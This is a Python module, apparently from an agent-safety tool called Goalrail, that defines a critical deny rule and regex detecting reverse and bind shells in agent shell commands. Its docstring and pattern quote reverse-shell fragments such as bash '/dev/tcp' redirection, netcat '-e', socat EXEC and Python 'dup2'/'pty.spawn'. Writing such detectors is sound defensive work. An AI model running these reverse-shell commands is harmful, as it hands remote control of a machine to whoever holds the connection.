"""A shell handed to a network connection: a reverse or bind shell.

What such a shell runs is typed by whoever holds the other end, and never passes the agent's
hooks or Goalrail: every template denies it (``<prefix>_remote_shell``), the permissive one
too.  The forms, each by class rather than by one payload:

* a netcat that runs a program for the connection (``nc``, ``ncat``, ``netcat``, ``nc.traditional``,
  ``busybox nc``, ``cryptcat``, ``pwncat``…: ``-e``/``-c`` alone or clustered, ``--exec``,
  ``--sh-exec``, ``--lua-exec``);
* ``socat`` joining ``EXEC:``/``SYSTEM:`` to a network address (``TCP``, ``UDP``, ``SSL``,
  ``OPENSSL``, ``SOCKS``, ``SCTP``, ``VSOCK``, ``PROXY``, listening or not), in either order;
* a shell, or its output, piped into a network client (``sh -i 2>&1 | nc h p``, the ``mkfifo``
  loop, ``telnet h p | bash | telnet h q``, ``openssl s_client``);
* bash's ``/dev/tcp``/``/dev/udp`` joined to a shell (``bash -i >& /dev/tcp/h/p 0>&1``,
  ``exec 196<>/dev/tcp/…; sh <&196``) or to a loop running what it reads (``while read l; do $l``);
* interpreter code that opens a socket and hands it a shell or runs what it reads: Python
  (``dup2``, ``pty.spawn``), Perl (``open(STDIN, ">&S")``), Ruby, PHP, Node, PowerShell
  (``TCPClient`` with ``iex``), Lua, awk's ``/inet/tcp``, zsh's ``ztcp``;
* an X terminal opened on another host's display (``xterm -display host:1``).

A client alone (``nc -zv h 22``, ``socat - TCP:h:6379``, ``cat < /dev/tcp/h/13``) and code that
opens a socket without a shell stay with the network rules.  No lookaround (RE2).
"""

from __future__ import annotations

from goalrail.jsontypes import JsonValue
from goalrail.patterns.model import Pattern
from goalrail.patterns.templates._base import rule

__all__ = ["REMOTE_SHELL", "REMOTE_SHELL_MESSAGE", "remote_shell_rule"]

#: where a program's name starts: the line's start, a separator, a quote, a path's ``/``
_AT = r"(^|[\s;&|(`'\"/])"
_SH = r"(sh|bash|zsh|ksh|dash|ash|tcsh|csh|fish|mksh|yash|posh)\b"
_NET = (
    r"(nc|ncat|netcat|nc\.traditional|nc\.openbsd|telnet|socat|openssl\s+s_client|cryptcat|sbd|pwncat|rcat"
    r"|powercat(\.ps1)?)"
)
_ADDRESS = r"(?i:(tcp|udp|ssl|openssl|socks|sctp|vsock|proxy)[\w-]*:)"
_PROGRAM = r"(?i:(exec|system):)"
#: code opening a connection
_SOCKET = (
    r"(socket\.socket|socket\.create_connection|socket\(|TCPSocket|UNIXSocket|fsockopen|stream_socket_client"
    r"|net\.Socket|net\.connect|net\.createConnection|Net\.Sockets\.TCPClient|IO::Socket|use Socket|socket\.tcp\("
    r"|TcpStream|/inet/tcp/|/inet/udp/|/inet6/tcp/|/inet6/udp/|Socket\.new|pwn\.remote|ztcp\s)"
)
#: code handing it a shell, or running what it reads
_RUNS = (
    rf"(dup2|pty\.spawn|(^|[^\w-]){_SH}\s*[0-9]?[<>]&\s*\$|/bin/{_SH}\b|(^|[^\w-]){_SH}\s+-i\b|cmd\.exe|powershell|pwsh|\biex\b|Invoke-Expression"
    r"|open\(\s*STDIN|STDIN->fdopen|exec\s*\(\s*['\"]/bin/|spawn\(\s*['\"](/bin/)?(sh|bash)['\"]|\bsystem\s*\("
    r"|os\.execute|popen|\|&\s*getline\s+\w+[^\n]*\(\s*\w+\s*\|&\s*getline\s*\))"
)
REMOTE_SHELL = (
    ".*("
    rf"{_AT}{_NET}(\s|\.exe\s)([^;&|\n]*\s)?['\"]?(-[a-zA-Z]*[ec]([\s'\"=/]|$)|--(sh-|lua-)?exec([\s'\"=]|$))"
    rf"|{_AT}socat\s[^;&|\n]*{_PROGRAM}[^;&|\n]*{_ADDRESS}|{_AT}socat\s[^;&|\n]*{_ADDRESS}[^;&|\n]*{_PROGRAM}"
    rf"|{_AT}{_SH}(\s([^;&|\n]|[<>]&)*)?\|\s*([^\s;&|]*/)?{_NET}(\.exe)?\s"
    rf"|{_AT}{_SH}(\s+-\w+)*\s+[0-9]*([<>]&?|&>|<>)\s*['\"]?(/dev/tcp/|/dev/udp/)"
    rf"|(/dev/tcp/|/dev/udp/)[^\n]*({_AT}{_SH}(\s+-\w+)*\s+[0-9]*<&|\beval\b|do\s+\$\w+)"
    rf"|{_SOCKET}[^\n]*{_RUNS}|{_RUNS}[^\n]*{_SOCKET}"
    rf"|{_AT}xterm\s([^;&|\n]*\s)?-display\s+['\"]?[\w.-]*[A-Za-z0-9]:[0-9]"
    ").*"
)
REMOTE_SHELL_MESSAGE = "A shell handed to a network connection (a reverse or bind shell) is blocked"


def remote_shell_rule(template: str, prefix: str, **meta: JsonValue) -> Pattern:
    """``<prefix>_remote_shell``: a shell line handing a shell to a connection, denied."""
    return rule(
        template,
        f"{prefix}_remote_shell",
        "shell_execute",
        REMOTE_SHELL,
        "deny",
        "critical",
        REMOTE_SHELL_MESSAGE,
        "sigkill",
        **meta,
    )
